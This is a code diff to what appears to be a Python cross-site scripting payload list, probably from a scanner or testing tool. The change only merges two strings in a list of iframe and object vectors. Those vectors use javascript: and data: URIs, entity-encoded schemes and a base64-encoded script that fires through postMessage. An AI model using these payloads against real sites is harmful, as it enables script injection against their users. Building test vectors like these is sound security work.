@@ -282,8 +282,7 @@ _FRAMES = [
     f"<iframe src='{_CODED}FIRE'></iframe>",
     "<iframe src='javascript&colon;FIRE'></iframe>",
     f"<iframe src='data:text/html,{_SCRIPT}'></iframe>",
-    "<iframe src='data:text/html;base64,PHNjcmlwdD50b3AucG9zdE1lc3NhZ2UoMSwnKicpPC9zY3JpcHQ+'></iframe>"
-    "<script>onmessage=()=>{FIRE}</script>",
+    "<iframe src='data:text/html;base64,PHNjcmlwdD50b3AucG9zdE1lc3NhZ2UoMSwnKicpPC9zY3JpcHQ+'></iframe><script>onmessage=()=>{FIRE}</script>",
     f"<iframe src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='FIRE'/>\"></iframe>",
     f"<iframe src='data:application/xhtml+xml,<html xmlns=\"http://www.w3.org/1999/xhtml\">{_SCRIPT}</html>'></iframe>",
     f"<object data='data:text/html,{_SCRIPT}'></object>",
